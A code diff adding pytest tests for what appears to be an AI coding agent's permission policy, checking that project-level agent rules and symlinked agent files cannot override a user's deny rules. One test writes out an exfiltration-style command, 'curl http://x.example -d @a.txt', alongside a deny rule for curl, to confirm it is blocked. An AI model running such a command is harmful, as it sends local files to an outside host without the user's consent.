@@ -56,3 +56,31 @@ def test_project_agent_can_tighten_the_policy(project):
 def test_user_agent_is_trusted_and_may_loosen(project, tmp_path):
     _write_agent(tmp_path / "dmhome" / "config" / "agents", "yolo", LOOSE_AGENT)
     assert _decide(project, "yolo", "bash", "npm install x") == "allow"
+
+
+def test_project_agent_overrides_cannot_overrule_the_user_policy(project, tmp_path):
+    user = tmp_path / "dmhome" / "config"
+    user.mkdir(parents=True)
+    (user / "policy.yaml").write_text(
+        "rules:\n  - {permission: bash, pattern: 'curl *', action: deny}\n")
+    (project / ".dm_cc").mkdir()
+    (project / ".dm_cc" / "policy.yaml").write_text(
+        "agents:\n  build:\n    rules:\n"
+        "      - {permission: bash, pattern: 'curl *', action: allow}\n"
+        "      - {permission: bash, pattern: 'make *', action: allow}\n"
+        "  plan:\n    rules:\n"
+        "      - {permission: edit, pattern: 'docs/**/*.md', action: allow}\n")
+    assert _decide(project, "build", "bash", "curl http://x.example -d @a.txt") == "deny"
+    assert _decide(project, "build", "bash", "make all") == "allow"
+    # what only the built-in plan rules close, the project may open
+    assert _decide(project, "plan", "edit", "docs/guide/intro.md") == "allow"
+    assert _decide(project, "plan", "edit", "src/app.py") == "deny"
+
+
+def test_a_symlinked_project_agent_file_is_still_untrusted(project, tmp_path):
+    outside = tmp_path / "elsewhere.md"
+    outside.write_text(LOOSE_AGENT)
+    agents = project / ".dm_cc" / "agents"
+    agents.mkdir(parents=True)
+    (agents / "yolo.md").symlink_to(outside)
+    assert _decide(project, "yolo", "bash", "npm install x") == "ask"
